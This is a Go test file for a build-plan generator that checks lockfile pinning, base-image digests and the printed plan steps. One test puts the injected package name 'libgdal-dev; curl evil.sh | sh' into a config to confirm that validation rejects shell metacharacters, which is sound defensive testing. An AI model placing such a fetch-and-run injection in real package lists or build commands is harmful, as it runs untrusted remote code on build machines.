package plan

import (
	"errors"
	"strings"
	"testing"

	"github.com/MatthewPierson90/cultionet/internal/config"
	"github.com/MatthewPierson90/cultionet/internal/iostreams"
	"github.com/MatthewPierson90/cultionet/internal/lockfile"
	"github.com/MatthewPierson90/cultionet/internal/logger"
)

func init() {
	logger.Init(false)
}

const geowombatSHA = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"

func defaultConfigFn() (*config.Config, error) {
	return config.DefaultConfig(), nil
}

func TestBuildWithoutLock(t *testing.T) {
	p, warnings, err := Build(defaultConfigFn, nil)
	if err != nil {
		t.Fatalf("Build failed: %v", err)
	}
	if len(p.Steps) == 0 {
		t.Fatal("expected steps in plan")
	}
	if p.Resolution.Triple() != "torch-1.12.1+cu113" {
		t.Errorf("Triple() = %q", p.Resolution.Triple())
	}

	// Default sources are unpinned, which the validator flags.
	var unpinned bool
	for _, w := range warnings {
		if strings.Contains(w, "unpinned") {
			unpinned = true
		}
	}
	if !unpinned {
		t.Errorf("expected an unpinned-source warning, got %v", warnings)
	}
}

func TestBuildRejectsInvalidConfig(t *testing.T) {
	configFn := func() (*config.Config, error) {
		cfg := config.DefaultConfig()
		cfg.Native.Packages = append(cfg.Native.Packages, "libgdal-dev; curl evil.sh | sh")
		return cfg, nil
	}

	p, _, err := Build(configFn, nil)
	if err == nil {
		t.Fatal("Build should reject a package name with shell metacharacters")
	}
	if p != nil {
		t.Error("no plan must be produced for a rejected config")
	}

	var validationErr *config.MultiValidationError
	if !errors.As(err, &validationErr) {
		t.Errorf("error type = %T, want *config.MultiValidationError", err)
	}
}

func TestBuildAppliesLockPins(t *testing.T) {
	lock := lockfile.New()
	lock.Sources["geowombat"] = lockfile.SourcePin{Revision: geowombatSHA}
	lock.BaseImage = lockfile.ImagePin{
		Reference: "nvidia/cuda:11.3.1-cudnn8-devel-ubuntu20.04",
		Digest:    "sha256:9f2c1d42347dcb1a24a4766f29fbe6eb9a09c3d2b1e0ee22dc47a5a3dd44b874",
	}

	p, _, err := Build(defaultConfigFn, func() (*lockfile.Lockfile, error) {
		return lock, nil
	})
	if err != nil {
		t.Fatalf("Build failed: %v", err)
	}

	if !strings.Contains(p.Resolution.BaseImage, "@sha256:") {
		t.Errorf("expected digest-pinned base image, got %q", p.Resolution.BaseImage)
	}

	sources := p.Steps[len(p.Steps)-1]
	var pinned bool
	for _, cmd := range sources.Commands {
		if strings.Contains(cmd, "geowombat.git@"+geowombatSHA) {
			pinned = true
		}
	}
	if !pinned {
		t.Errorf("expected pinned geowombat revision in source commands: %v", sources.Commands)
	}
}

func TestBuildIgnoresForeignBasePin(t *testing.T) {
	lock := lockfile.New()
	lock.BaseImage = lockfile.ImagePin{
		Reference: "nvidia/cuda:11.6.1-cudnn8-devel-ubuntu20.04",
		Digest:    "sha256:9f2c1d42347dcb1a24a4766f29fbe6eb9a09c3d2b1e0ee22dc47a5a3dd44b874",
	}

	p, _, err := Build(defaultConfigFn, func() (*lockfile.Lockfile, error) {
		return lock, nil
	})
	if err != nil {
		t.Fatalf("Build failed: %v", err)
	}
	if strings.Contains(p.Resolution.BaseImage, "@") {
		t.Errorf("pin for a different reference must not apply, got %q", p.Resolution.BaseImage)
	}
}

func TestPlanRunOutput(t *testing.T) {
	ios, out, _ := iostreams.NewTestIOStreams()
	opts := &PlanOptions{
		IOStreams: ios,
		Config:    defaultConfigFn,
	}

	if err := planRun(opts); err != nil {
		t.Fatalf("planRun failed: %v", err)
	}

	output := out.String()
	for _, want := range []string{"native", "bindings", "framework", "extensions", "geospatial", "sources"} {
		if !strings.Contains(output, "["+want+"]") {
			t.Errorf("expected %q step in output:\n%s", want, output)
		}
	}
	if !strings.Contains(output, "gdal-config --version") {
		t.Errorf("expected derived geospatial install in output:\n%s", output)
	}
}
